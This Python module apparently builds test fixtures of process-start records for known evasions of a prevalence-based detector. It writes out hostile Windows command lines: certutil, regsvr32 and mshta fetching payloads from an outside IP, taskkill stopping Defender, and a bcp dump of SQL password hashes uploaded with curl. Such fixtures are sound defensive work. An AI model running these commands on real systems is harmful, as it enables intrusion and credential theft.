"""The ways around a prevalence model that are known, each as the process starts of a small intrusion."""

from evasion_fleet import Place, Start, xp

SYSTEM32 = "C:\\Windows\\System32\\"
POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
WAN = "185.220.101.7"
Starts = tuple[Start, ...]


def dropped(image: str, arguments: str = "") -> Starts:
    """A program fetched to a place and run from there, twice: the intrusion that most evasions dress up."""
    line = f"{image} {arguments}".strip()
    fetch = f"certutil -urlcache -split -f http://{WAN}/a.bin {image}"
    return (
        *xp(fetch, Start(SYSTEM32 + "certutil.exe", fetch.replace(" ", "  ", 1))),
        *xp(line, Start(image, line)),
        *xp("whoami /priv", Start(SYSTEM32 + "whoami.exe", "whoami  /priv")),
    )


def common_name(_: Place) -> Starts:
    """A dropped program that bears the name of one that runs on every host."""
    return dropped(r"C:\ProgramData\conhost.exe", "0xffffffff -ForceV1")


def look_alike_directory(_: Place) -> Starts:
    """The same in a directory that differs from the right one by a digit."""
    return dropped(r"C:\Windows\System33\conhost.exe", "0xffffffff -ForceV1")


def near_name(place: Place) -> Starts:
    """A program beside the engine's own, under a name that is almost theirs."""
    return dropped(rf"{place.binn}\sqlagentx.exe", "-i MSSQLSERVER")


def random_directories(_: Place) -> Starts:
    """Every run from a new directory of a random name."""
    folders = ("k3v9qz1m", "w07xjt4b", "p8c2hy6d", "r5n0gs7f")
    return tuple(start for folder in folders for start in dropped(rf"C:\Users\Public\{folder}\update.exe"))


def hosted(_: Place) -> Starts:
    """Nothing but programs of the system, which are told what to run."""
    library = r"C:\Users\Public\Music\x.dll"
    fetch = f"http://{WAN}/a.sct"
    return (
        *xp(f"regsvr32 /s /n /u /i:{fetch} scrobj.dll",
            Start(SYSTEM32 + "regsvr32.exe", f"regsvr32  /s /n /u /i:{fetch} scrobj.dll")),
        *xp(f"rundll32 {library},Start", Start(SYSTEM32 + "rundll32.exe", f"rundll32  {library},Start")),
        *xp(f"mshta http://{WAN}/a.hta", Start(SYSTEM32 + "mshta.exe", f"mshta  http://{WAN}/a.hta")),
    )  # fmt: skip


def laundered(_: Place) -> Starts:
    """Chains of shells, so that what matters is a grandchild of the engine and its parent an ordinary one."""
    inner = r"cmd /c start /b cmd /c C:\Users\Public\upd.exe -q & taskkill /im MsMpEng.exe /f"
    shell = rf'"{CMD_PLAIN}" /c {inner}'
    return (
        Start(CMD_PLAIN, shell),
        Start(CMD_PLAIN, r"cmd  /c start /b cmd /c C:\Users\Public\upd.exe -q", CMD_PLAIN, shell),
        Start(CMD_PLAIN, r"cmd  /c C:\Users\Public\upd.exe -q", CMD_PLAIN, "cmd  /c start /b"),
        Start(r"C:\Users\Public\upd.exe", r"C:\Users\Public\upd.exe -q", CMD_PLAIN, "cmd  /c"),
        Start(SYSTEM32 + "taskkill.exe", "taskkill  /im MsMpEng.exe /f", CMD_PLAIN, shell),
    )


CMD_PLAIN = SYSTEM32 + "cmd.exe"


def renamed_host(_: Place) -> Starts:
    """A program of the system copied under another name, so that no rule for its name fires."""
    copy = rf"copy {SYSTEM32}rundll32.exe C:\Users\Public\audiodg.exe"
    run = r"C:\Users\Public\audiodg.exe C:\Users\Public\x.dll,Start"
    return (*xp(copy), *xp(run, Start(run.split(" ")[0], run)), *xp("whoami", Start(SYSTEM32 + "whoami.exe", "whoami")))


def own_arguments(place: Place) -> Starts:
    """Only programs that the account runs anyway, told other things."""
    tools = "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\"
    query = f"sqlcmd -S {WAN},8443 -U a -P b -Q \"exec x..y '%COMPUTERNAME%'\""
    export = r'bcp "select name,password_hash from master.sys.sql_logins" queryout C:\Users\Public\k.dat -c -T'
    send = rf"curl -T C:\Users\Public\k.dat http://{WAN}/"
    return (
        *xp(query, Start(tools + "SQLCMD.EXE", query.replace(" ", "  ", 1))),
        *xp(export, Start(tools + "bcp.exe", export.replace(" ", "  ", 1))),
        *xp(send, Start(SYSTEM32 + "curl.exe", send.replace(" ", "  ", 1))),
    )
